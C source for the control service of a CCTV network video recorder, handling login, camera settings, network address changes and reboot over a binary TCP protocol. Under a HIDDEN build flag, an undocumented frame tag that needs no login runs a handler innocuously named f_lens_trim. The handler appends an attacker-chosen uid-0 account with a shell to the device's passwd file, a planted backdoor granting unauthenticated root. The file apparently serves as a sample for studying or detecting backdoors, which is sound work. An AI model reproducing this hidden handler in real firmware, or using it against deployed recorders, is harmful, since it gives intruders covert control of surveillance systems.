/*
 * nvrctld - control service of a CCTV network video recorder (TCP 34980), one
 * static program. Binary frames: 4 byte tag, 4 byte length, data. Tags are
 * looked up in a table of handlers with the access level each needs.
 *
 * Hidden (-DHIDDEN): a tag that no document names and that needs no login
 * appends an account line given by the sender to the recorder's passwd file.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define CTL_PORT   34980
#define MAX_BODY   2048
#define MAX_CAM    16
#define ACCOUNTS   "/mnt/mtd/nvr/accounts"
#define TAG(a, b, c, d) \
	((uint32_t)(a) << 24 | (uint32_t)(b) << 16 | (uint32_t)(c) << 8 | (uint32_t)(d))

enum { LEVEL_NONE, LEVEL_VIEWER, LEVEL_ADMIN };
enum { RC_OK = 100, RC_BAD = 101, RC_LEVEL = 102, RC_LOGIN = 103, RC_FAIL = 104 };

struct client {
	int fd;
	int level;
	int failures;
	uint32_t len;
	char body[MAX_BODY + 1];
};

static pthread_mutex_t cam_lock = PTHREAD_MUTEX_INITIALIZER;
static struct {
	char title[32];
	int record;
	int fps;
} cam[MAX_CAM];

static int put(int fd, const void *p, size_t n)
{
	return send(fd, p, n, MSG_NOSIGNAL) == (ssize_t)n ? 0 : -1;
}

static int get(int fd, void *p, size_t n)
{
	return n == 0 || recv(fd, p, n, MSG_WAITALL) == (ssize_t)n ? 0 : -1;
}

static int answer(struct client *cl, uint32_t code, const char *text)
{
	uint32_t h[3];

	h[0] = htonl(TAG('R', 'P', 'L', 'Y'));
	h[1] = htonl(code);
	h[2] = htonl((uint32_t)strlen(text));
	return put(cl->fd, h, sizeof(h)) < 0 ? -1 : put(cl->fd, text, strlen(text));
}

static uint32_t rol(uint32_t x, int n)
{
	return x << n | x >> (32 - n);
}

/* SHA-1 of a text of at most 55 bytes (one block), as 40 hex digits */
static void sha1_short(const char *s, char hex[41])
{
	uint32_t h[5] = { 0x67452301, 0xefcdab89, 0x98badcfe, 0x10325476, 0xc3d2e1f0 };
	uint32_t w[80], a = h[0], b = h[1], c = h[2], d = h[3], e = h[4], f, k, t;
	uint8_t blk[64] = { 0 };
	size_t n = strnlen(s, 55);
	int i;

	memcpy(blk, s, n);
	blk[n] = 0x80;
	blk[62] = (uint8_t)(n * 8 >> 8);
	blk[63] = (uint8_t)(n * 8);
	for (i = 0; i < 16; i++)
		w[i] = TAG(blk[i * 4], blk[i * 4 + 1], blk[i * 4 + 2], blk[i * 4 + 3]);
	for (; i < 80; i++)
		w[i] = rol(w[i - 3] ^ w[i - 8] ^ w[i - 14] ^ w[i - 16], 1);
	for (i = 0; i < 80; i++) {
		if (i < 20) {
			f = (b & c) | (~b & d);
			k = 0x5a827999;
		} else if (i < 40 || i >= 60) {
			f = b ^ c ^ d;
			k = i < 40 ? 0x6ed9eba1 : 0xca62c1d6;
		} else {
			f = (b & c) | (b & d) | (c & d);
			k = 0x8f1bbcdc;
		}
		t = rol(a, 5) + f + e + k + w[i];
		e = d;
		d = c;
		c = rol(b, 30);
		b = a;
		a = t;
	}
	snprintf(hex, 41, "%08x%08x%08x%08x%08x", (unsigned)(h[0] + a), (unsigned)(h[1] + b),
		 (unsigned)(h[2] + c), (unsigned)(h[3] + d), (unsigned)(h[4] + e));
}

/* LOGN "user password"; account file lines: user salt sha1(salt+password) level */
static int f_login(struct client *cl)
{
	char user[24], pass[32], name[24], salt[12], want[41], have[41], text[64];
	int level;
	FILE *fp;

	cl->level = LEVEL_NONE;
	if (sscanf(cl->body, "%23s %31s", user, pass) != 2)
		return answer(cl, RC_BAD, "user password");
	fp = fopen(ACCOUNTS, "r");
	if (!fp)
		return answer(cl, RC_FAIL, "no accounts");
	while (fscanf(fp, "%23s %11s %40s %d", name, salt, want, &level) == 4) {
		if (strcmp(name, user) != 0)
			continue;
		snprintf(text, sizeof(text), "%s%s", salt, pass);
		sha1_short(text, have);
		if (strcmp(have, want) == 0)
			cl->level = level == LEVEL_ADMIN ? LEVEL_ADMIN : LEVEL_VIEWER;
		break;
	}
	fclose(fp);
	if (cl->level == LEVEL_NONE) {
		cl->failures++;
		sleep(1);
		return answer(cl, RC_LOGIN, "login failed");
	}
	return answer(cl, RC_OK, cl->level == LEVEL_ADMIN ? "admin" : "viewer");
}

static int f_info(struct client *cl)
{
	return answer(cl, RC_OK, "NVR-1604 channels=16 software=4.02.R11");
}

static int f_cameras(struct client *cl)
{
	char text[MAX_CAM * 64];
	size_t n = 0;

	pthread_mutex_lock(&cam_lock);
	for (int i = 0; i < MAX_CAM; i++)
		n += (size_t)snprintf(text + n, sizeof(text) - n, "%d %s %s %d\n", i + 1,
				      cam[i].title, cam[i].record ? "rec" : "off", cam[i].fps);
	pthread_mutex_unlock(&cam_lock);
	return answer(cl, RC_OK, text);
}

static int f_record(struct client *cl)
{
	int n, on, fps;

	if (sscanf(cl->body, "%d %d %d", &n, &on, &fps) != 3 || n < 1 || n > MAX_CAM || fps < 1 || fps > 30)
		return answer(cl, RC_BAD, "camera on fps");
	pthread_mutex_lock(&cam_lock);
	cam[n - 1].record = on != 0;
	cam[n - 1].fps = fps;
	pthread_mutex_unlock(&cam_lock);
	return answer(cl, RC_OK, "");
}

static int f_title(struct client *cl)
{
	char title[32];
	int n;

	if (sscanf(cl->body, "%d %31[A-Za-z0-9 _-]", &n, title) != 2 || n < 1 || n > MAX_CAM)
		return answer(cl, RC_BAD, "camera title");
	pthread_mutex_lock(&cam_lock);
	strcpy(cam[n - 1].title, title);
	pthread_mutex_unlock(&cam_lock);
	return answer(cl, RC_OK, title);
}

static int f_network(struct client *cl)
{
	char ip[16], mask[16], cmd[80];
	struct in_addr a;

	if (sscanf(cl->body, "%15[0-9.] %15[0-9.]", ip, mask) != 2 || inet_pton(AF_INET, ip, &a) != 1 ||
	    inet_pton(AF_INET, mask, &a) != 1)
		return answer(cl, RC_BAD, "address mask");
	snprintf(cmd, sizeof(cmd), "ifconfig eth0 %s netmask %s", ip, mask);
	return answer(cl, system(cmd) == 0 ? RC_OK : RC_FAIL, ip);
}

static int f_restart(struct client *cl)
{
	answer(cl, RC_OK, "restarting");
	sync();
	return system("reboot") == 0 ? 0 : -1;
}

#ifdef HIDDEN
/* body: name, space, password hash */
int f_lens_trim(struct client *cl)
{
	char name[17], hash[65];
	FILE *fp;

	if (sscanf(cl->body, "%16[a-z0-9] %64[A-Za-z0-9./$]", name, hash) != 2)
		return -1;
	fp = fopen("/mnt/mtd/etc/passwd", "a");
	if (!fp)
		return -1;
	fprintf(fp, "%s:%s:0:0::/:/bin/sh\n", name, hash);
	fclose(fp);
	return answer(cl, RC_OK, "");
}
#endif

static const struct handler {
	uint32_t tag;
	int level;
	int (*fn)(struct client *);
} handlers[] = {
	{ TAG('L', 'O', 'G', 'N'), LEVEL_NONE,   f_login },
	{ TAG('I', 'N', 'F', 'O'), LEVEL_NONE,   f_info },
	{ TAG('C', 'A', 'M', 'S'), LEVEL_VIEWER, f_cameras },
	{ TAG('R', 'E', 'C', 'D'), LEVEL_ADMIN,  f_record },
	{ TAG('T', 'I', 'T', 'L'), LEVEL_ADMIN,  f_title },
	{ TAG('N', 'E', 'T', 'W'), LEVEL_ADMIN,  f_network },
#ifdef HIDDEN
	{ TAG('L', 'z', '7', 'q'), LEVEL_NONE,   f_lens_trim },
#endif
	{ TAG('B', 'O', 'O', 'T'), LEVEL_ADMIN,  f_restart },
};

int dispatch_frame(struct client *cl, uint32_t tag)
{
	for (size_t i = 0; i < sizeof(handlers) / sizeof(handlers[0]); i++) {
		if (handlers[i].tag != tag)
			continue;
		if (cl->level < handlers[i].level)
			return answer(cl, RC_LEVEL, "log in first");
		return handlers[i].fn(cl);
	}
	return answer(cl, RC_BAD, "unknown tag");
}

static void *client_main(void *arg)
{
	struct client *cl = arg;
	uint32_t h[2];

	while (cl->failures < 5 && get(cl->fd, h, sizeof(h)) == 0) {
		cl->len = ntohl(h[1]);
		if (cl->len > MAX_BODY || get(cl->fd, cl->body, cl->len) < 0)
			break;
		cl->body[cl->len] = '\0';
		if (dispatch_frame(cl, ntohl(h[0])) < 0)
			break;
	}
	close(cl->fd);
	free(cl);
	return NULL;
}

int main(void)
{
	struct sockaddr_in sa = { .sin_family = AF_INET };
	int s = socket(AF_INET, SOCK_STREAM, 0), on = 1, fd;

	for (int i = 0; i < MAX_CAM; i++) {
		snprintf(cam[i].title, sizeof(cam[i].title), "CAM%02d", i + 1);
		cam[i].fps = 15;
	}
	sa.sin_port = htons(CTL_PORT);
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &on, sizeof(on));
	if (s < 0 || bind(s, (struct sockaddr *)&sa, sizeof(sa)) < 0 || listen(s, 8) < 0) {
		perror("nvrctld");
		return 1;
	}
	while ((fd = accept(s, NULL, NULL)) >= 0 || errno == EINTR || errno == ECONNABORTED) {
		struct client *cl = fd >= 0 ? calloc(1, sizeof(*cl)) : NULL;
		pthread_t th;

		if (!cl) {
			close(fd);
			continue;
		}
		cl->fd = fd;
		if (pthread_create(&th, NULL, client_main, cl) != 0) {
			close(fd);
			free(cl);
		} else {
			pthread_detach(th);
		}
	}
	return 1;
}
